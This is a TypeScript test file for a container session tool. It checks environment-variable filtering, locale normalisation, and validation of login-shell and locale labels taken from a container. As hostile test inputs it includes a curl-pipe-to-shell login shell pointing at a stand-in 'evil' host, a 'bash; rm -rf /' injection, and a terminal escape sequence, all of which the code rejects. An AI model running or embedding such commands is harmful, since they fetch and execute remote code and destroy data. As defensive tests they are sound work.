/**
 * What a session's command gets in its environment, and what `new` records
 * about the container: pure functions, tested with the inputs a hostile
 * container or an odd host could give.
 */
import { assert, describe, it } from "@effect/vitest"
import * as Option from "effect/Option"
import { localesOf, loginShellOf, userLabels } from "../src/ContainerUser.ts"
import { normalizeLocale, sessionEnv, terminalEnv } from "../src/SessionEnvironment.ts"

describe("SessionEnvironment", () => {
  it("passes the terminal's variables only, and a locale the container lacks as C.UTF-8", () => {
    const host = {
      TERM: "xterm-256color",
      COLORTERM: "truecolor",
      LANG: "en_US.UTF-8",
      LC_ALL: "de_DE.utf8",
      LC_MESSAGES: "C",
      LC_TIME: "",
      TZ: "Europe/Berlin",
      PATH: "/host/bin",
      SSH_AUTH_SOCK: "/tmp/agent",
      LC_injected: "x"
    }
    assert.deepStrictEqual(terminalEnv(host, Option.some(["C", "C.utf8", "POSIX", "de_DE.utf8"])), {
      TERM: "xterm-256color",
      COLORTERM: "truecolor",
      LANG: "C.UTF-8",
      LC_ALL: "de_DE.utf8",
      LC_MESSAGES: "C",
      LC_TIME: "",
      TZ: "Europe/Berlin"
    })
    // Not recorded (made before): only C, C.UTF-8 and POSIX are taken as present.
    assert.deepStrictEqual(terminalEnv({ LANG: "C.UTF-8", LC_ALL: "de_DE.UTF-8" }, Option.none()), {
      LANG: "C.UTF-8",
      LC_ALL: "C.UTF-8"
    })
  })

  it("compares locale names as glibc does", () => {
    assert.strictEqual(normalizeLocale("en_US.UTF-8"), "en_US.utf8")
    assert.strictEqual(normalizeLocale("sr_RS.UTF-8@latin"), "sr_RS.utf8@latin")
    assert.strictEqual(normalizeLocale("C"), "C")
  })

  it("the user's --env wins over HOME, USER, LOGNAME and the terminal's", () => {
    const env = sessionEnv({
      host: { TERM: "dumb", LANG: "C" },
      locales: Option.none(),
      user: "ada",
      home: "/home/ada",
      extra: { TERM: "xterm", USER: "root" }
    })
    assert.deepStrictEqual(env, { TERM: "xterm", LANG: "C", HOME: "/home/ada", USER: "root", LOGNAME: "ada" })
  })
})

describe("ContainerUser labels", () => {
  it("records the uid-1000 login shell and the locales; what does not check out is left out", () => {
    const passwd = "root:x:0:0:root:/root:/bin/sh\nubuntu:x:1000:1000::/home/ubuntu:/usr/bin/zsh\n"
    assert.deepStrictEqual(userLabels(passwd, "C\nC.utf8\nPOSIX\nen_US.utf8\n"), {
      "login-shell": "/usr/bin/zsh",
      locales: "C,C.utf8,POSIX,en_US.utf8"
    })
    // A hostile image: a shell that is not a plain path, locales with separators and control characters.
    const hostile = "ubuntu:x:1000:1000::/home/ubuntu:sh -c 'curl evil|sh'\n"
    assert.deepStrictEqual(userLabels(hostile, "C\nde_DE.utf8,evil\n\u001b]0;x\u0007\nPOSIX"), { locales: "C,POSIX" })
    assert.deepStrictEqual(userLabels("", ""), {})
  })

  it("reads the labels back, checked again", () => {
    assert.deepStrictEqual(loginShellOf({ "login-shell": "/bin/bash" }), Option.some("/bin/bash"))
    assert.deepStrictEqual(loginShellOf({ "login-shell": "bash; rm -rf /" }), Option.none())
    assert.deepStrictEqual(loginShellOf({}), Option.none())
    assert.deepStrictEqual(localesOf({ locales: "C,en_US.utf8,bad name" }), Option.some(["C", "en_US.utf8"]))
    assert.deepStrictEqual(localesOf({}), Option.none())
  })
})
